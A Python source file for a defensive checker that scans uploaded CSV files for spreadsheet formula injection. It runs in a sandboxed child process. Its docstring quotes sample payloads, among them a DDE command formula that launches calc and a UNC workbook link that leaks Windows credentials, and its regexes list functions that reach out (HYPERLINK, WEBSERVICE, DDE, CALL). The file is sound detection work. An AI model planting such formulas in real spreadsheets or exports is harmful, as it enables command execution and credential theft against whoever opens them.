"""Formulas in a CSV that would act when a spreadsheet opens it.

CSV has no way to say "this cell is text": Excel and LibreOffice read a cell
that starts with = + - or @ as a formula. An inspector opens evidence on an
office laptop, so core.uploads refuses a CSV with a formula that can act:
one that calls a function (=HYPERLINK(, =WEBSERVICE(, =DDE(), names a
program (DDE's =cmd|' /C calc'!A0), or reaches another file, which fetches
it and hands over the reader's Windows sign-in (Excel's
='\\\\server\\share\\[book.xlsx]Sheet1'!A1, LibreOffice's ='file://…'#$Sheet1.A1).
"-5", "+44 (0)20 7946 0000", "- (see notes)", "@kentpolice" and "=1+1" cannot
act, and are kept. (dashboard.csvio defuses the service's own exports.)

core.uploads runs this file as a script, in a process of its own with
limits on its time and memory (as core.pdfcheck), the CSV on standard
input, and reads back SAFE or the line of the first formula that can act.
Nothing here imports Django.

    python -I core/csvcheck.py CPU_SECONDS MEMORY_BYTES < file.csv

Spreadsheets split a CSV in different ways, so the file is judged as each
may read it (_FormulaFinder), and three adversarial reviews' bypasses are
tests in core/tests/test_uploads.py. Every pattern is linear in the text,
whatever it holds: a file built to be slow is still checked within the
child's limits.
"""

import functools
import io
import re
import resource
import sys
import unicodedata

FORMULA_STARTS = "=+-@"
FORMULA_ACTS = re.compile(
    # A function call: a name then its bracket, as Excel writes it. "Smith
    # (north)" is not one (in Excel a space there is an operator), but the
    # functions that reach out are refused with a space too, as LibreOffice
    # may read them so.
    r"(?<![\w.])[A-Za-z_][\w.]*+\("
    r"|(?<![\w.])(?i:(?:_xlfn\.)?(?:HYPERLINK|WEBSERVICE|FILTERXML|DDE|INDIRECT|RTD|CALL"
    r"|REGISTER(?:\.ID)?|EXEC|IMPORT\w*|IMAGE))\s*+\("
    r"|\|"  # DDE: program|topic
    r"|'!|\]\w*!|![^\S\n]*\$?[A-Za-z]{1,3}\$?\d"  # another sheet or workbook
    r"|(?i:\.xl\w{0,2}[^\S\n]*!)"  # book.xlsx!Name
    r"|\\\\|(?i:file:)|'#"  # a share, a file address, LibreOffice's link
)
# LibreOffice splits on these at once by default, and on what a first line
# "sep=X" names, which it reads in any case, quoted or not. Excel in the UK
# splits on commas, or on X (unless the file starts with a byte order mark,
# it is said: so both).
SEPARATORS = ",;\t"
EXCEL_SEPARATOR = re.compile(r'\s*"?sep=([^"\n])', re.IGNORECASE)
# Characters a spreadsheet may not show, dropped before a cell is judged.
INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]")
# Spreadsheets end a row at CR, LF or both, and at nothing else.
LINE_BREAKS = re.compile(r"\r\n?")
# Excel opens a file starting "ID" as SYLK, whatever its name: a record with
# an E field holds a formula, and an NE record links another file.
SYLK_FORMULA = re.compile(r"^(?:[A-Z]{1,2};(?:[^\n]*;)?E|NE;)", re.MULTILINE)
SAFE = "safe"
TOO_COMPLEX = "too_complex"


def formula_line(binary) -> int | None:
    """The line of the first formula that can act, or None. `binary` is
    UTF-8 (checked already), open in binary mode at its start; it is left
    open. The file is judged whole: a quoted cell may run on over any number
    of lines, and no count of quote marks tells where one ends in every
    spreadsheet, so blocks of lines left a formula to hide across their
    boundary (found by the third review). 20MB at most, in the child's
    512MB: about 200MB at the peak."""
    text = io.TextIOWrapper(binary, encoding="utf-8-sig", newline="")
    try:
        first = text.readline()
        whole = LINE_BREAKS.sub("\n", normalised(first + text.read()))
    finally:
        text.detach()
    declared = EXCEL_SEPARATOR.match(INVISIBLE.sub("", first))
    finder = _FormulaFinder(
        declared[1] if declared else "", sylk=INVISIBLE.sub("", first).startswith("ID")
    )
    # Most files hold nothing that could act: passed over at once.
    at = finder.acting(whole) if FORMULA_ACTS.search(whole) else None
    return None if at is None else whole.count("\n", 0, at) + 1


class _FormulaFinder:
    """A cell is judged as each spreadsheet would read it: split on the
    separator before it (every one, for a line's first cell), or, quoted,
    to its closing quote mark. Blanks before a quote mark are skipped, as
    LibreOffice skips them. A quoted cell not closed on its own line is
    read as LibreOffice reads it: a quote mark ends it only before a
    separator or the line's end, and line breaks are its own."""

    def __init__(self, declared: str, *, sylk: bool):
        everywhere = SEPARATORS + declared
        self.sylk = sylk
        self.patterns = [
            self._reading(starts_after=everywhere, ends=everywhere),
            *(self._reading(starts_after=sep, ends=sep) for sep in dict.fromkeys("," + declared)),
            self._quoted(starts_after=everywhere),
        ]
        seps, starts = re.escape(everywhere), re.escape(FORMULA_STARTS)
        self.runs_on = re.compile(
            rf'(?:^|[{seps}])[^\S\n{seps}]*"[^\S\n]*[{starts}]'
            rf'(?=(?:[^"\n]|"")*+(?!"[^\S\n]*(?:[{seps}\n]|$)))',
            re.MULTILINE,
        )
        self.run_on_content = re.compile(rf'(?:[^"]|""|"(?![^\S\n]*(?:[{seps}\n]|\Z)))*+')

    @staticmethod
    def _reading(*, starts_after: str, ends: str) -> re.Pattern:
        # Blanks before the formula stop at a separator: one that follows
        # starts its own cell, and a run of tabs read once, not once a tab.
        after, ends = re.escape(starts_after), re.escape(ends)
        return re.compile(
            # An empty quoted value first ("") may be run on into the cell.
            rf'(?:^|[{after}])[^\S\n{after}]*(?:""[^\S\n{after}]*)*([{re.escape(FORMULA_STARTS)}])'
            rf"[^{ends}\n]*?(?:{FORMULA_ACTS.pattern})",
            re.MULTILINE,
        )

    @staticmethod
    def _quoted(*, starts_after: str) -> re.Pattern:
        after = re.escape(starts_after)
        return re.compile(
            rf'(?:^|[{after}])[^\S\n{after}]*"[^\S\n]*([{re.escape(FORMULA_STARTS)}])'
            rf'(?:[^"\n]|"")*?(?:{FORMULA_ACTS.pattern})',
            re.MULTILINE,
        )

    def acting(self, block: str) -> int | None:
        """Where the first formula that can act starts in the block, or None."""
        found = [match.start(1) for p in self.patterns if (match := p.search(block))]
        if self.sylk and (match := SYLK_FORMULA.search(block)):
            found.append(match.start())
        position = 0
        while start := self.runs_on.search(block, position):
            end = self.run_on_content.match(block, start.end()).end()
            if FORMULA_ACTS.search(block, start.end() - 1, end):
                found.append(start.start())
                break
            position = max(end, start.end())  # a start inside this cell is its content
        return min(found, default=None)


def normalised(text: str) -> str:
    """The text as a spreadsheet shows it: invisible characters dropped and
    look-alikes folded (dashboard.csvio judges the service's own cells so)."""
    if text.isascii():
        return text
    return INVISIBLE.sub("", text).translate(_look_alikes())


@functools.cache
def _look_alikes() -> dict[int, str]:
    """Characters that look like one ASCII character (＝, ﹢, ｆ), folded to
    it one for one: never to more (U+FDFA is 18 characters under NFKC, and a
    file of them took 15 s and 800MB), nor to a separator, a quote mark or a
    line break (U+FF0C "，" is not a comma to a spreadsheet). Made once, on
    the first CSV checked."""
    table = {}
    for code in range(0x80, 0x110000):
        folded = unicodedata.normalize("NFKC", chr(code))
        if len(folded) == 1 and folded.isascii() and folded not in ',;\t"\n\r':
            table[code] = folded
    return table


def main(argv: list[str]) -> None:
    seconds, memory = (int(arg) for arg in argv)
    # Killed by the kernel past them (SIGXCPU; a MemoryError first, for memory).
    resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds + 1))
    resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))  # no core file when killed
    try:
        line = formula_line(sys.stdin.buffer)
    except MemoryError:
        sys.stdout.write(TOO_COMPLEX)
        return
    sys.stdout.write(SAFE if line is None else str(line))


if __name__ == "__main__":
    main(sys.argv[1:])
